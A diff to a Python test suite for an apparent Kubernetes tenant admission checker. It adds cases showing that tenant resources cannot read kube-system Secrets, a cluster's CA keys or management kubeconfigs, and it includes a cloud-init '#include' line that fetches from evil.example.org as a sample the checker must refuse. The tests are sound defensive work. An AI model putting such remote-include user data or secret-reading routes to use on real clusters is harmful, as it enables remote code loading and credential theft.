@@ -26,6 +26,7 @@ from provisioning.resources import (
     KUBEADM_CONFIG_TEMPLATES,
     KUBEADM_CONFIGS,
     KUBEVIRT_MACHINE_TEMPLATES,
+    MACHINE_DEPLOYMENTS,
     SECRETS,
     TENANT_CONTROL_PLANES,
     Resource,
@@ -65,8 +66,8 @@ def release(chart: str = "cilium", **more: Any) -> Manifest:
     return {"interval": "5m", "chart": {"spec": {"chart": chart, "sourceRef": source}}, "kubeConfig": REMOTE, **more}
 
 
-def machine(script: str) -> Manifest:
-    volumes = [{"name": "boot", "cloudInitNoCloud": {"userData": f"#!/bin/sh\n{script}\n"}}]
+def machine(user_data: str) -> Manifest:
+    volumes = [{"name": "boot", "cloudInitNoCloud": {"userData": user_data}}]
     inner = {"domain": {"cpu": {"cores": 1}, "memory": {"guest": "1Gi"}, "devices": {}}, "volumes": volumes}
     return {"template": {"spec": {"virtualMachineTemplate": {"spec": {"template": {"spec": inner}}}}}}
 
@@ -105,6 +106,7 @@ def wrapped(spec: Manifest) -> Manifest:
     return {"template": {"spec": spec}}
 
 
+READ = {"apiVersion": "v1", "kind": "Secret", "name": "early"}
 AUTOSCALER_IMAGE = {"coreDNS": {"imageRepository": "x/cluster-autoscaler"}}
 KUBERNETES = {"version": "v1.34.2", "kubelet": {}}
 TOPOLOGY = {"classRef": {"name": "c"}, "version": "v1.34.2", "variables": [{"name": "boot", "value": INSTALL}]}
@@ -136,6 +138,16 @@ REFUSED: tuple[tuple[Resource, Manifest, str], ...] = (
         {"policyRefs": [{"kind": "ConfigMap", "name": "x", "deploymentType": "Local"}]},
         "may not deploy into the management cluster",
     ),
+    (
+        PROFILES,
+        {"templateResourceRefs": [{"identifier": "a", "resource": {**READ, "namespace": "kube-system"}}]},
+        "in kube-system with its own rights",
+    ),
+    (
+        PROFILES,
+        {"policyRefs": [{"kind": "ConfigMap", "name": "{{ .Cluster.metadata.name }}-a"}]},
+        "cannot be seen here",
+    ),
     (CLUSTER_PROFILES, charts("kubevirt-csi-driver"), HERE),
     (APPLICATIONS, application(chart="cluster-autoscaler", targetRevision="9"), HERE),
     (APPLICATIONS, application(path="./", targetRevision="main"), "cannot be seen here"),
@@ -154,7 +166,8 @@ REFUSED: tuple[tuple[Resource, Manifest, str], ...] = (
     (KUBEADM_CONFIGS, {"postKubeadmCommands": [INSTALL]}, HERE),
     (KUBEADM_CONTROL_PLANES, kubeadm(), HERE),
     (KUBEADM_CONTROL_PLANE_TEMPLATES, wrapped(kubeadm()), HERE),
-    (KUBEVIRT_MACHINE_TEMPLATES, machine(INSTALL), HERE),
+    (KUBEVIRT_MACHINE_TEMPLATES, machine(f"#!/bin/sh\n{INSTALL}\n"), HERE),
+    (KUBEVIRT_MACHINE_TEMPLATES, machine("#include\nhttps://evil.example.org/x\n"), "it includes user data"),
     (KAMAJI_CONTROL_PLANES, {"version": "v1.34.2", "addons": AUTOSCALER_IMAGE}, HERE),
     (KAMAJI_CONTROL_PLANE_TEMPLATES, wrapped({"addons": AUTOSCALER_IMAGE}), HERE),
     (
@@ -191,7 +204,9 @@ async def test_nothing_that_belongs_elsewhere_goes_into_a_tenant_by_any_way(desk
     await every_kind_is_asked_about_and_what_belongs_there_is_let_through(desk)
     await what_was_let_in_is_looked_at_again_when_it_changes(desk)
     await what_a_resource_set_brings_is_looked_at_whichever_comes_first(desk)
+    await a_secret_that_is_there_before_it_is_named_is_looked_at_then(desk)
     await no_access_to_the_management_cluster_goes_there(desk)
+    await no_keys_of_a_cluster_go_anywhere(desk)
 
 
 async def every_kind_is_asked_about_and_what_belongs_there_is_let_through(desk: Desk) -> None:
@@ -247,6 +262,55 @@ async def what_a_resource_set_brings_is_looked_at_whichever_comes_first(desk: De
     await desk.admin.create(CONFIG_MAPS, content(desk, "late", named_only))
 
 
+def naming(secret: str) -> tuple[tuple[Resource, Manifest], ...]:
+    """Everything that somebody in a tenant can have read a Secret by."""
+    one = {"kind": "Secret", "name": secret}
+    boot = {"files": [{"path": "/a", "contentFrom": {"secret": {"name": secret, "key": "a"}}}]}
+    template = {"apiGroup": KUBEVIRT_MACHINE_TEMPLATES.group, "kind": KUBEVIRT_MACHINE_TEMPLATES.kind, "name": "t"}
+    workers = {"clusterName": "c", "bootstrap": {"dataSecretName": secret}, "infrastructureRef": template}
+    labels = {"a": "b"}
+    pool = {"clusterName": "c", "replicas": 0, "selector": {"matchLabels": labels}}
+    values = [{**one, "valuesKey": "a"}]
+    return (
+        (CLUSTER_RESOURCE_SETS, {"clusterSelector": SELECTOR, "resources": [one]}),
+        (HELM_RELEASES, release(valuesFrom=values)),
+        (KUSTOMIZATIONS, kustomization(kubeConfig=REMOTE, postBuild={"substituteFrom": [one]})),
+        (PROFILES, {"policyRefs": [one]}),
+        (PROFILES, {"templateResourceRefs": [{"identifier": "a", "resource": {**READ, "name": secret}}]}),
+        (KUBEADM_CONFIGS, boot),
+        (KUBEADM_CONFIG_TEMPLATES, wrapped(boot)),
+        (KUBEADM_CONTROL_PLANES, {"kubeadmConfigSpec": boot}),
+        (KUBEADM_CONTROL_PLANE_TEMPLATES, wrapped({"kubeadmConfigSpec": boot})),
+        (MACHINE_DEPLOYMENTS, {**pool, "template": {"metadata": {"labels": labels}, "spec": workers}}),
+    )
+
+
+async def passing(desk: Desk, secret: str, why: str) -> list[tuple[str, str]]:
+    """What may name the Secret, and what is said to it, in place of this."""
+    told = [(resource.kind, await answer(desk, resource, spec)) for resource, spec in naming(secret)]
+    return [(kind, text) for kind, text in told if why not in text]
+
+
+async def a_secret_that_is_there_before_it_is_named_is_looked_at_then(desk: Desk) -> None:
+    manifests = POD + "---\nimage: x/cluster-autoscaler\n"
+    hidden = {"type": "Opaque", "data": {"a": base64.b64encode(manifests.encode()).decode()}}
+    await desk.admin.create(SECRETS, {**desk.new(SECRETS, "early"), **hidden})
+    assert await passing(desk, "early", HERE) == []
+    harmless = {"data": {"a": base64.b64encode(b"a: b").decode()}}
+    await desk.admin.create(SECRETS, {**desk.new(SECRETS, "plain"), **harmless})
+    assert [kind for kind, spec in naming("plain") if HERE in await answer(desk, kind, spec)] == []
+
+
+async def no_keys_of_a_cluster_go_anywhere(desk: Desk) -> None:
+    owner = {"apiVersion": KAMAJI_CONTROL_PLANES.api_version, "kind": KAMAJI_CONTROL_PLANES.kind, "name": "shop"}
+    owners = [{**owner, "uid": "0", "controller": True}]
+    await desk.admin.create(SECRETS, desk.new(SECRETS, "shop-ca", ownerReferences=owners))
+    assert await passing(desk, "shop-ca", "is what the KamajiControlPlane shop keeps for itself") == []
+    await desk.admin.create(CLUSTER_RESOURCE_SETS, resource_set(desk, "wait", [{"kind": "Secret", "name": "late-ca"}]))
+    with pytest.raises(errors.Forbidden, match="something in this namespace would give late-ca"):
+        await desk.admin.create(SECRETS, desk.new(SECRETS, "late-ca", ownerReferences=owners))
+
+
 async def no_access_to_the_management_cluster_goes_there(desk: Desk) -> None:
     await desk.admin.create(CLUSTER_RESOURCE_SETS, resource_set(desk, "keys", [{"kind": "ConfigMap", "name": "infra"}]))
     # The controller that publishes it is not among the playground's.
@@ -258,6 +322,9 @@ async def no_access_to_the_management_cluster_goes_there(desk: Desk) -> None:
     secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "infra"}, "data": {"kubeconfig": ours}}
     with pytest.raises(errors.Forbidden, match="a kubeconfig with the certificate authority of the management"):
         await desk.admin.create(CONFIG_MAPS, content(desk, "infra", yaml.safe_dump(secret)))
+    kept = {"type": "Opaque", "data": {"kubeconfig": ours}}
+    await desk.admin.create(SECRETS, {**desk.new(SECRETS, "ours"), **kept})
+    assert await passing(desk, "ours", "the certificate authority of the management cluster") == []
     path = f"/api/v1/namespaces/{desk.namespace}/serviceaccounts/builder"
     account = {"name": "builder", "namespace": desk.namespace}
     await apply.put(desk.admin, [{"apiVersion": "v1", "kind": "ServiceAccount", "metadata": account}])
